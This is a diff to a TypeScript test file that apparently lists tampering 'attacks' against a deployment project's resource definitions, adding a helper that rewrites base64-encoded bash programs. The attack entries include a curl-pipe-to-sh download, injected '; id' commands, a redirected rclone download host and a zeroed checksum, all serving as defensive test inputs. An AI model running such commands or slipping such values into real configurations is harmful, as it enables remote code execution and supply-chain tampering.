@@ -1,4 +1,5 @@
 /* eslint-disable @typescript-eslint/no-unsafe-member-access -- attacks change inputs of every shape */
+import { expect } from "vitest";
 import { addResource, all, assign, inputs, inputText, type Attacks } from "../../support/attack";
 
 const container = (values: object) => assign("memoryloop", values);
@@ -8,6 +9,16 @@ const otherRepository = `ghcr.io/somebody/memoryloop@sha256:${"a".repeat(64)}`;
 
 const sshOption = (from: string, to: string) => inputText("host-docker", "sshOpts", from, to);
 const addSshOption = (option: string) => sshOption('["-o"', `["-o",${JSON.stringify(option)},"-o"`);
+
+/** A change in the bash program that a command carries in base64. */
+const programText = (name: string, from: string | RegExp, to: string) =>
+  inputs(name, (props) => {
+    props.create = (props.create as string).replace(/(?<=<<<)[A-Za-z0-9+/=]+/, (encoded) => {
+      const program = Buffer.from(encoded, "base64").toString();
+      expect(program.replace(from, to)).not.toBe(program);
+      return Buffer.from(program.replace(from, to)).toString("base64");
+    });
+  });
 
 export const resourceAttacks: Attacks = {
   "resource-type": Object.fromEntries(
@@ -114,8 +125,8 @@ export const resourceAttacks: Attacks = {
     "download that runs": command({ create: "curl -fsSL https://example.com/install.sh | sh" }),
     "one more line": inputText("host-packages", "create", /'$/, "\nid'"),
     "one more command": inputText("host-packages", "create", /$/, "; id"),
-    "another rclone": inputText("backups-rclone", "create", "downloads.rclone.org", "downloads.example.com"),
-    "another checksum": inputText("backups-rclone", "create", /#[0-9a-f]{64}/, `#${"0".repeat(64)}`),
+    "another rclone": programText("backups-rclone", "downloads.rclone.org", "downloads.example.com"),
+    "another checksum": programText("backups-rclone", /#[0-9a-f]{64}/, `#${"0".repeat(64)}`),
     "output in the log": command({ logging: "stdout" }),
     "default output": inputs("host-packages", (props) => delete props.logging),
     "previous output in the environment": command({ addPreviousOutputInEnv: true }),
